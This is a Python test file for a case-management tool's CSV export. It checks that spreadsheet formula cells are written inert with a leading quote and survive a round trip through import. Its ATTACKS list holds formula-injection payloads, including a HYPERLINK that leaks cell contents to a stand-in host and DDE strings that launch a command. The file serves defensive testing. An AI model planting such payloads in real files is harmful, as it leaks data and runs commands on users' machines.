"""Finding 9: `vigil export` wrote `=HYPERLINK(...)`, `+cmd|...` and `@SUM` verbatim. A CSV
cell that a spreadsheet would run is written inert (a quote in front), and the import reads
it back unchanged, on both databases."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from tests.builders import CLI
from vigil.cases.exporting import export_cases
from vigil.cases.importing import import_cases
from vigil.domain import cells
from vigil.store.models import Case, Person

pytestmark = pytest.mark.usefixtures("frozen_today")

ATTACKS = [
    '=HYPERLINK("http://192.0.2.1/?leak="&A1,"details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
TEXT = st.text(
    alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"], exclude_characters="\x00"),
    max_size=20,
)  # NUL: refused by PostgreSQL, issue 11 item 8
RISKY = st.builds(lambda start, rest: start + rest, st.sampled_from([*cells.RUNS, "'", "''"]), TEXT)


def _import_jsonl(session, tmp_path: Path, rows: list[dict[str, str]]) -> None:
    path = tmp_path / "in.jsonl"
    base = {"type": "runaway", "opened_at": "2021-03-01"}
    lines = [json.dumps({**base, "reference": f"R-{i}", **r}) for i, r in enumerate(rows)]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    import_cases(session, path, by=CLI)


def _stored(session) -> list[tuple[str, str, str, str]]:
    query = (
        select(Case.reference, Case.summary, Person.first_name, Person.last_name)
        .join(Person, Person.case_id == Case.id)
        .order_by(Case.reference)
    )
    return [tuple(r) for r in session.execute(query)]


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [value for row in csv.DictReader(handle) for value in row.values()]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_typed_into_a_file_is_exported_inert(session, tmp_path, attack):
    _import_jsonl(session, tmp_path, [{"summary": attack, "child_last_name": attack}])
    out = tmp_path / "out.csv"
    export_cases(session, out, by=CLI)
    written = [c for c in _cells(out) if c.lstrip("'").strip().startswith(("=", "+", "-", "@"))]
    assert written and all(c.startswith("'") for c in written), written


def test_a_number_is_not_quoted():
    assert cells.neutralise("-12.5") == "-12.5" and cells.neutralise("+3") == "+3"


@given(TEXT)
def test_any_text_reads_back_as_written_and_never_starts_like_a_formula(value):
    cell = cells.neutralise(value)
    assert cells.restore(cell) == value
    assert not cell.startswith(cells.RUNS) or cells._NUMBER.fullmatch(cell)


@settings(
    max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.lists(st.tuples(RISKY, RISKY, RISKY), min_size=1, max_size=5))
def test_export_then_import_keeps_risky_texts_unchanged(session, tmp_path, texts):
    session.rollback()
    session.execute(Person.__table__.delete())
    session.execute(Case.__table__.delete())
    rows = [
        {"summary": s, "child_first_name": first, "child_last_name": last}
        for s, first, last in texts
    ]
    _import_jsonl(session, tmp_path, rows)
    before = _stored(session)
    out = tmp_path / "out.csv"
    export_cases(session, out, by=CLI)
    result = import_cases(session, out, by=CLI)
    assert result.updated == len(rows)
    session.expire_all()
    assert _stored(session) == before
